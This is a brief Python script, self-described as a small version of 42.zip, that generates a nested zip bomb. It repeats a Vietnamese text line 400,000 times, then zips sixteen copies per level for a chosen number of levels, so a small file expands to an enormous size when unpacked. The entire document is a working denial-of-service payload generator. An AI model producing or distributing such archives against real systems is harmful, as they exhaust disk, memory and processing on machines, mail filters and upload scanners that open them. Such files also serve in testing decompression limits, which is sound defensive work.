"""42.zip in small: zips of sixteen zips of sixteen zips, the innermost a thousand times as long when unpacked."""
import io
import sys
import zipfile

content = b"Doanh thu 5.000 t\xe1\xbb\xb7 \xc4\x91\xe1\xbb\x93ng.\n" * 400000
name = "a.txt"
for _ in range(int(sys.argv[2])):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as out:
        for i in range(16):
            out.writestr(f"{i}{name}", content)
    content, name = packed.getvalue(), "a.zip"
with open(sys.argv[1], "wb") as out:
    out.write(content)
